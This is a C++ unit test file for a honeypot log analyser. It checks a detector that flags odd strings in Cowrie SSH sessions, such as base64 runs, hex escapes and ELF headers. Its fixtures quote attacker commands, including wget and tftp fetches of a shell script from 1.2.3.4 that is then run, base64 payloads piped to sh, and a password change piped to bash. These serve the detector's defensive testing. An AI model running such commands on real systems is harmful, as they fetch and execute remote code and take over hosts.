#include <gtest/gtest.h>

#include "analysis_fixture.hpp"
#include "cb/analysis/weird_string.hpp"

using namespace cb;
using namespace cbtest;

namespace {

std::string reasons(std::string_view s) { return weird_reasons_text(check_weird_string(s).reasons); }

// 600 base64 characters from a fixed pseudo-random sequence.
std::string b64_blob(std::uint64_t seed, std::size_t n) {
    static const char* a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::mt19937_64 g(seed);
    std::string s;
    for (std::size_t i = 0; i < n; ++i) s.push_back(a[g() % 64]);
    return s;
}

}  // namespace

TEST(WeirdString, OrdinaryCommandsAreNotFlagged) {
    // Real commands from the sample logs, long scripts included.
    for (const char* c :
         {"uname -a", "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
          "cd ~; chattr -ia .ssh; lockr -ia .ssh", "ls -lh $(which ls)",
          "export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:$PATH; "
          "uname=$(uname -s -v -n -m 2>/dev/null); arch=$(uname -m 2>/dev/null);",
          "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://1.2.3.4/bins.sh; "
          "chmod 777 bins.sh; sh bins.sh; tftp 1.2.3.4 -c get tftp1.sh",
          "ls /usr/local/lib/python3/dist-packages/somepackage/submodule/file.py",
          "echo -e \"123456\\n8xrQILXFzYPR\\n8xrQILXFzYPR\"|passwd|bash",
          // \n is a blank to echo -e: without that, this token scores 4.50 bits
          "echo -e \"plmoknijbuhvygctfxrdz\\nLyPtzLHaHyZi\\nLyPtzLHaHyZi\"|passwd|bash",
          "echo -e \"\\x6F\\x6B\"",  // two escapes: too short a run, and printable
          "grep -c 'ELF' /tmp/x", "cat SELF.txt", "file /bin/ls | grep ELF",
          "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/70.0.3538.77 Safari/537.36",
          "!QAZXSW@#EDCVFR$%TGBNHY^",  // a keyboard walk: 24 distinct characters, two classes
          "password123\r",             // CR from a CRLF wordlist
          "пароль", "pässwörd", "tab\tseparated"})
        EXPECT_EQ(reasons(c), "") << c;
}

TEST(WeirdString, Reasons) {
    EXPECT_EQ(reasons("echo " + b64_blob(1, 600) + " | base64 -d | sh"), "entropy;base64_run");
    EXPECT_EQ(reasons("x " + b64_blob(2, 44) + " y"), "entropy;base64_run");
    EXPECT_EQ(reasons("d41d8cd98f00b204e9800998ecf8427e"), "hex_run");  // md5 of nothing, as a password
    EXPECT_EQ(reasons("d41d8cd98f00b204e9800998ecf8427"), "");          // 31 hex digits
    EXPECT_EQ(reasons("12345678901234567890123456789012345"), "");      // digits only: a number
    EXPECT_EQ(reasons("echo -e '\\x63\\x6F\\x6E\\x6E\\x65\\x63\\x74\\x65\\x64'"), "hex_escapes");  // "connected"
    EXPECT_EQ(reasons("echo -ne \"\\x00\\x00\\x40\\x00\\x00\\x00\\x00\\x06\""), "hex_escapes;nonprintable");
    EXPECT_EQ(reasons("p\\xc3\\xa4ssw\\xc3\\xb6rd"), "nonprintable");  // Cowrie's escapes of undecodable bytes
    EXPECT_EQ(reasons("b'\\xff\\xfe\\xfd-pass'"), "nonprintable;bytes_repr");
    EXPECT_EQ(reasons("b'hello'"), "");
    EXPECT_EQ(reasons(std::string("a\x01") + "b"), "nonprintable");
    EXPECT_EQ(reasons("line\nbreak"), "nonprintable");
    EXPECT_EQ(reasons("lost \xEF\xBF\xBD byte"), "nonprintable");  // U+FFFD
    EXPECT_EQ(reasons("c1 \xC2\x85 control"), "nonprintable");
    // ELF headers in every form seen.
    EXPECT_EQ(reasons("\x7f"
                      "ELF\x02\x01\x01"),
              "nonprintable;elf");
    EXPECT_EQ(reasons("echo -ne '\\x7fELF'"), "nonprintable;elf");
    EXPECT_EQ(reasons("printf '\\177ELF'"), "elf");
    EXPECT_EQ(reasons("/bin/busybox echo -ne '\\x45\\x4c\\x46'"), "elf");
    EXPECT_EQ(reasons("/bin/busybox echo -ne '\\x45\\x4C\\x46'"), "elf");
    EXPECT_EQ(reasons(">?A@/X'8ELFX@L"), "elf");  // Radec73: ELF bytes on stdin, control bytes dropped
    EXPECT_EQ(reasons(">A@/XBV'8ELFGVR"), "elf");
    EXPECT_EQ(reasons("echo -ne \"\\x7f\\x45\\x4c\\x46\\x01\\x02\\x01\\x00\\x00\\x00\\x00\\x00\""),
              "hex_escapes;nonprintable;elf");
}

TEST(WeirdString, EntropyNeedsLengthAndMixedClasses) {
    const auto r = check_weird_string("token Xk9mP2vL5nQ8wR3tY7uI1oA6sD4fG0h end");  // 32 random alphanumerics
    EXPECT_EQ(weird_reasons_text(r.reasons), "entropy");
    EXPECT_GT(r.token_entropy, 4.5);
    EXPECT_EQ(check_weird_string("Xk9mP2vL5nQ8wR3").reasons, 0u);  // 15 bytes: too short
    EXPECT_EQ(check_weird_string("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa").token_entropy, 0.0);  // one class
    EXPECT_NEAR(shannon_entropy("abcd"), 2.0, 1e-12);
    EXPECT_NEAR(shannon_entropy("aaaa"), 0.0, 1e-12);
}

namespace {

std::string weird_corpus() {
    const std::string blob = b64_blob(9, 2000);
    std::string d;
    // Two sessions send the same long payload command; a third a different one with the same first 500 bytes.
    for (int i = 0; i < 3; ++i) {
        const std::string sid = cat("w", i), ip = cat("10.0.0.", i % 2);
        const std::string ts = cat("2026-02-0", i + 1, "T10:00:00Z");
        const std::string cmd = "echo " + blob + (i == 2 ? "XX" : "") + " | base64 -d | sh";
        d += ev("s1", sid, ip, "cowrie.session.connect", ts);
        d += ev("s1", sid, ip, "cowrie.command.input", ts, "\"input\":" + js(cmd));
        d += ev("s1", sid, ip, "cowrie.command.input", ts, "\"input\":" + js(cmd));  // twice: count 2, one session
        d += ev("s1", sid, ip, "cowrie.command.input", ts, R"("input":"uname -a")");
    }
    d += ev("s2", "u1", "10.0.0.9", "cowrie.login.failed", "2026-02-05T10:00:00Z",
            R"("username":"b'us\\xe9r'","password":"d41d8cd98f00b204e9800998ecf8427e")");
    d += ev("s2", "u1", "10.0.0.9", "cowrie.login.failed", "2026-02-05T10:00:01Z",
            R"("username":"root","password":"root")");
    d += ev("s2", "u1", "10.0.0.9", "cowrie.command.input", "2026-02-05T10:00:02Z", R"("input":">?A@/X'8ELFX@L")");
    d += ev("s2", "u1", "10.0.0.9", "cowrie.session.file_download.failed", "2026-02-05T10:00:03Z",
            R"("url":"http://1.2.3.4/\\x00\\x01\\x02\\x03\\x04\\x05\\x06\\x07")");
    return d;
}

}  // namespace

TEST(WeirdStrings, Table) {
    StringPool pool;
    const auto sessions = ingest(weird_corpus(), pool);
    ASSERT_EQ(sessions.size(), 4u);
    const Findings f = run_one("weird_strings", sessions);
    const Table& t = *table(f, "weird_strings");
    ASSERT_EQ(t.rows.size(), 6u) << to_csv(t);  // 2 payloads, username, password, ELF command, URL

    // The most frequent first: the payload sent by two sessions.
    const auto& top = t.rows[0];
    EXPECT_EQ(text(top[col(t, "kind")]), "command");
    EXPECT_EQ(text(top[col(t, "reasons")]), "entropy;base64_run");
    EXPECT_EQ(std::get<std::int64_t>(top[col(t, "sessions")]), 2);
    EXPECT_EQ(std::get<std::int64_t>(top[col(t, "count")]), 4);
    EXPECT_EQ(std::get<std::int64_t>(top[col(t, "src_ips")]), 2);
    EXPECT_EQ(std::get<std::int64_t>(top[col(t, "length")]), 5 + 2000 + 17);  // "echo " blob " | base64 -d | sh"
    EXPECT_EQ(std::get<std::int64_t>(top[col(t, "truncated")]), 1);
    EXPECT_EQ(text(top[col(t, "value")]).size(), 500u);
    EXPECT_EQ(text(top[col(t, "first_seen")]), "2026-02-01T10:00:00.000000Z");
    EXPECT_EQ(text(top[col(t, "last_seen")]), "2026-02-02T10:00:00.000000Z");
    // Same first 500 bytes, different string: its own row.
    const std::vector<Cell>* other_p = nullptr;
    for (const auto& r : t.rows)
        if (std::get<std::int64_t>(r[col(t, "length")]) == 2024) other_p = &r;
    ASSERT_NE(other_p, nullptr);
    const auto& other = *other_p;
    EXPECT_EQ(text(other[col(t, "value")]), text(top[col(t, "value")]));
    EXPECT_EQ(std::get<std::int64_t>(other[col(t, "count")]), 2);
    EXPECT_EQ(std::get<std::int64_t>(other[col(t, "sessions")]), 1);

    auto reasons_of = [&](std::string_view kind, std::string_view value) -> std::string {
        for (const auto& r : t.rows)
            if (text(r[col(t, "kind")]) == kind && text(r[col(t, "value")]) == value) return text(r[col(t, "reasons")]);
        return "(missing)";
    };
    EXPECT_EQ(reasons_of("username", "b'us\\xe9r'"), "nonprintable;bytes_repr");
    EXPECT_EQ(reasons_of("password", "d41d8cd98f00b204e9800998ecf8427e"), "hex_run");
    EXPECT_EQ(reasons_of("command", ">?A@/X'8ELFX@L"), "elf");
    EXPECT_EQ(reasons_of("url", "http://1.2.3.4/\\x00\\x01\\x02\\x03\\x04\\x05\\x06\\x07"), "hex_escapes;nonprintable");
    EXPECT_EQ(reasons_of("command", "uname -a"), "(missing)");
    EXPECT_EQ(reasons_of("password", "root"), "(missing)");
    ASSERT_TRUE(f.weird_strings);
    EXPECT_EQ(f.weird_strings->counts, (cb::NamedCounts{{"command", 3}, {"username", 1}, {"password", 1}, {"url", 1}}));
}

TEST(WeirdStrings, MergeEqualsOnePass) {
    std::string d = weird_corpus();
    for (int i = 0; i < 40; ++i) {
        const std::string sid = cat("r", i), ip = cat("10.2.0.", i % 6);
        const std::string ts =
            "2026-02-" + std::string(i % 28 < 9 ? "0" : "") + std::to_string(1 + i % 28) + "T11:00:00Z";
        d += ev("s3", sid, ip, "cowrie.command.input", ts, "\"input\":" + js("echo " + b64_blob(100 + i % 5, 60)));
        d += ev("s3", sid, ip, "cowrie.login.failed", ts,
                "\"username\":\"root\",\"password\":" + js(i % 3 ? "x\x01y" : "plain"));
    }
    StringPool pool;
    const auto sessions = ingest(d, pool);
    expect_mergeable("weird_strings", sessions, AnalysisConfig{});
}
